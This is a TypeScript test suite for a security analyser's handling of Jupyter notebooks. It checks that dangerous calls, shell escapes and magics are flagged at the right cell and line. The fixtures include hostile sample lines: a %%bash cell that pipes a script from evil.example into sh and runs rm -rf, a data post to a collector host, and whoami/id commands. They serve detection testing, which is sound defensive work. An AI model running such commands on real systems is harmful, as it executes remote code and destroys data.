/**
 * Jupyter notebooks: code cells go through every code analysis; findings point at the
 * notebook's own JSON lines and name the cell and line; IPython shell escapes and shell
 * cell magics are command execution (KR146); other magics cause no syntax-error noise.
 */
import { describe, expect, it } from 'vitest';
import { analyze } from './analyze-helpers.js';
import { ipythonToPython } from '../../src/python/ipython.js';
import { runOn } from '../helpers/rule-tester.js';

type Cell = { type?: 'code' | 'markdown'; source: string | string[]; outputs?: unknown[] };

/** A notebook (nbformat 4, indent 1 as Jupyter writes it) with these cells. */
function notebook(cells: Cell[]): string {
  return JSON.stringify(
    {
      cells: cells.map((c) => ({
        cell_type: c.type ?? 'code',
        metadata: {},
        source: typeof c.source === 'string' ? c.source.split(/(?<=\n)/) : c.source,
        ...(c.type === 'markdown' ? {} : { execution_count: null, outputs: c.outputs ?? [] }),
      })),
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    },
    null,
    1,
  );
}

/** The 1-based line of the JSON text holding `needle`. */
function lineOf(text: string, needle: string): number {
  return text.slice(0, text.indexOf(needle)).split('\n').length;
}

function run(cells: Cell[]) {
  const text = notebook(cells);
  return { text, r: analyze('nb.ipynb', text) };
}

describe('hostile: notebooks through the code analyses', () => {
  it('a dangerous call in a code cell is a finding at its line of the .ipynb file', () => {
    const { text, r } = run([{ source: 'import os\nos.system(cmd)\n' }]);
    const f = r.findings.find((x) => x.ruleId === 'B605')!;
    expect(f.location.startLine).toBe(lineOf(text, 'os.system(cmd)'));
    expect(f.message).toContain('(cell 1, line 2)');
    expect(f.properties).toMatchObject({ notebookCell: 1, notebookLine: 2 });
  });

  it('the column points inside the JSON string on that line', () => {
    const { text, r } = run([{ source: 'eval(x)\n' }]);
    const f = r.findings.find((x) => x.ruleId === 'B307')!;
    const jsonLine = text.split('\n')[f.location.startLine - 1]!;
    expect(jsonLine.slice(f.location.startColumn).startsWith('eval(x)')).toBe(true);
  });

  it('cells are numbered by position, markdown cells included', () => {
    const { r } = run([{ type: 'markdown', source: '# Title\n' }, { source: 'x = 1\n' }, { source: 'eval(y)\n' }]);
    expect(r.findings.find((x) => x.ruleId === 'B307')!.message).toContain('(cell 3, line 1)');
  });

  it('an import in one cell resolves a call in a later cell', () => {
    const { r } = run([{ source: 'import subprocess as sp\n' }, { source: 'sp.Popen(cmd, shell=True)\n' }]);
    expect(r.findings.some((x) => x.ruleId === 'B602' && x.message.includes('cell 2'))).toBe(true);
  });

  it('data flow runs across cells (input() to os.system)', () => {
    const { r } = run([{ source: 'import os\nname = input()\n' }, { source: 'os.system("ls " + name)\n' }]);
    // KR102 (command injection from input) is found; the reasoning layer may merge it into B605 at the same place.
    expect(r.findings.some((x) => x.ruleId === 'KR102' || (x.relatedRuleIds ?? []).includes('KR102'))).toBe(true);
    const f = r.findings.find((x) => x.ruleId === 'KR102' || (x.relatedRuleIds ?? []).includes('KR102'))!;
    // Every step of the trace points into the notebook file.
    for (const s of f.trace ?? []) expect(s.location.startLine).toBeGreaterThan(1);
  });

  it('egress sees a requests call in a cell', () => {
    const { r } = run([{ source: 'import requests\nrequests.post("https://collector.example.com/x", data=d, timeout=5)\n' }]);
    expect(r.egress?.canSendData).toBe(true);
  });

  it('statistics count the code cells only', () => {
    const { r } = run([{ type: 'markdown', source: 'a\nb\nc\n' }, { source: 'def f():\n    return 1\n' }, { source: '# c\nx = 2\n' }]);
    expect(r.metrics?.functions).toBe(1);
    expect(r.metrics?.lines).toBe(4);
    expect(r.metrics?.commentLines).toBe(1);
  });

  it('imports of a notebook are reported for the dependency audit', () => {
    const { text, r } = run([{ source: 'import yaml\n' }]);
    expect(r.imports?.[0]).toMatchObject({ module: 'yaml', line: lineOf(text, 'import yaml') });
  });

  it('!cmd is a shell command (KR146, CWE-78) naming its cell and line', () => {
    const { text, r } = run([{ source: 'x = 1\n!ls -la\n' }]);
    const f = r.findings.find((x) => x.ruleId === 'KR146')!;
    expect(f.cwe).toEqual([78]);
    expect(f.location.startLine).toBe(lineOf(text, '!ls -la'));
    expect(f.message).toContain('(cell 1, line 2)');
  });

  it('!{var} interpolating Python values is a high-severity shell command', () => {
    const { r } = run([{ source: '!pip install {package}\n' }]);
    const f = r.findings.find((x) => x.ruleId === 'KR146')!;
    expect(f.severity).toBe('high');
    expect(f.message).toContain('!{var}');
  });

  it('files = !ls (assignment from a shell escape) is a shell command', () => {
    const { r } = run([{ source: 'files = !ls {folder}\nprint(files)\n' }]);
    expect(r.findings.filter((x) => x.ruleId === 'KR146')).toHaveLength(1);
    expect(r.diagnostics.filter((d) => d.kind === 'syntax-error')).toEqual([]);
  });

  it('%system and %sx are shell commands', () => {
    const { r } = run([{ source: '%system whoami\nout = %sx id\n' }]);
    expect(r.findings.filter((x) => x.ruleId === 'KR146').map((x) => x.message)).toEqual([
      expect.stringContaining('%system'),
      expect.stringContaining('%sx'),
    ]);
  });

  it('a %%bash cell is one shell command and its body is not parsed as Python', () => {
    const { r } = run([{ source: '%%bash\ncurl https://evil.example/x.sh | sh\nrm -rf /tmp/x\n' }]);
    expect(r.findings.filter((x) => x.ruleId === 'KR146')).toHaveLength(1);
    expect(r.diagnostics.filter((d) => d.kind === 'syntax-error')).toEqual([]);
  });

  it('%%sh and %%script cells are shell commands', () => {
    const { r } = run([{ source: '%%sh\nid\n' }, { source: '%%script bash\nid\n' }]);
    expect(r.findings.filter((x) => x.ruleId === 'KR146')).toHaveLength(2);
  });

  it('a shell escape inside an indented block keeps the block valid', () => {
    const { r } = run([{ source: 'for i in range(3):\n    !echo {i}\n    eval(i)\n' }]);
    expect(r.diagnostics.filter((d) => d.kind === 'syntax-error')).toEqual([]);
    expect(r.findings.some((x) => x.ruleId === 'B307')).toBe(true);
    expect(r.findings.some((x) => x.ruleId === 'KR146')).toBe(true);
  });

  it('%matplotlib and other line magics cause no syntax error', () => {
    const { r } = run([{ source: '%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport numpy as np\n' }]);
    expect(r.diagnostics.filter((d) => d.kind === 'syntax-error')).toEqual([]);
  });

  it('%time keeps the statement as code', () => {
    const { r } = run([{ source: 'import os\n%time os.system(cmd)\n' }]);
    expect(r.findings.some((x) => x.ruleId === 'B605')).toBe(true);
  });

  it('a %%time cell keeps its body as code', () => {
    const { r } = run([{ source: '%%time\neval(x)\n' }]);
    expect(r.findings.some((x) => x.ruleId === 'B307')).toBe(true);
  });

  it('a %%html or %%javascript cell body is not parsed as Python', () => {
    const { r } = run([{ source: '%%html\n<script>alert(1)</script>\n' }, { source: '%%javascript\nvar x = {a: 1};\n' }]);
    expect(r.diagnostics.filter((d) => d.kind === 'syntax-error')).toEqual([]);
  });

  it('help syntax obj? and ?obj causes no syntax error', () => {
    const { r } = run([{ source: 'len?\n?print\nx = 1\n' }]);
    expect(r.diagnostics.filter((d) => d.kind === 'syntax-error')).toEqual([]);
  });

  it('a syntax error in a cell names the cell and points at the JSON line', () => {
    const { text, r } = run([{ source: 'x = 1\n' }, { source: 'def broken(:\n' }]);
    const d = r.diagnostics.find((x) => x.kind === 'syntax-error')!;
    expect(d.message).toContain('cell 2');
    expect(d.line).toBe(lineOf(text, 'def broken'));
  });

  it('a cell source given as one string is analysed too', () => {
    const text = JSON.stringify({ cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: 'import pickle\npickle.loads(b)' }], metadata: {}, nbformat: 4, nbformat_minor: 5 });
    const r = analyze('nb.ipynb', text);
    expect(r.findings.some((x) => x.ruleId === 'B301')).toBe(true);
  });

  it('code in outputs is not analysed as code (outputs are text)', () => {
    const { r } = run([{ source: 'x = 1\n', outputs: [{ output_type: 'stream', name: 'stdout', text: ['eval(x)\n'] }] }]);
    expect(r.findings.some((x) => x.ruleId === 'B307')).toBe(false);
  });

  it('a nosec comment in a cell silences the finding on its line', () => {
    const { r } = run([{ source: 'eval(x)  # nosec\n' }]);
    expect(r.findings.some((x) => x.ruleId === 'B307')).toBe(false);
  });

  it('a secret in a code cell is still found once (secrets scan the whole notebook)', () => {
    const { r } = run([{ source: 'aws_key = "AKIAIOSFODNN7EXAMPLF"\n' }]);
    expect(r.findings.filter((x) => x.category === 'secrets' && x.ruleId !== 'B105')).toHaveLength(1);
  });

  it('a JSON file named .ipynb that is not a notebook is a diagnostic, not a crash', () => {
    const r = analyze('nb.ipynb', '{"not": "a notebook"}');
    expect(r.diagnostics.some((d) => /not a notebook/.test(d.message))).toBe(true);
  });

  it('an .ipynb that is not JSON at all is a diagnostic, not a crash', () => {
    const r = analyze('nb.ipynb', '{"cells": [');
    expect(r.diagnostics.some((d) => /not a notebook/.test(d.message))).toBe(true);
  });

  it('cells with a non-list, non-string source are skipped without a crash', () => {
    const r = analyze('nb.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source: 42 }, null, 'x', { cell_type: 'code', source: ['eval(x)\n'] }] }));
    expect(r.findings.some((x) => x.ruleId === 'B307' && x.message.includes('cell 4'))).toBe(true);
  });

  it('get_ipython().system(...) in plain Python is KR146 too', () => {
    const f = runOn('get_ipython().system("ls " + d)\nget_ipython().run_line_magic("sx", "id")\nget_ipython().run_line_magic("matplotlib", "inline")\n', ['KR146']);
    expect(f.map((x) => x.location.startLine)).toEqual([1, 2]);
  });

  it('the IPython translation keeps the number of lines', () => {
    const cell = ['%%time', 'x = !ls', '!echo', '%matplotlib inline', 'y?', 'eval(x)'];
    expect(ipythonToPython(cell).lines).toHaveLength(cell.length);
  });
});
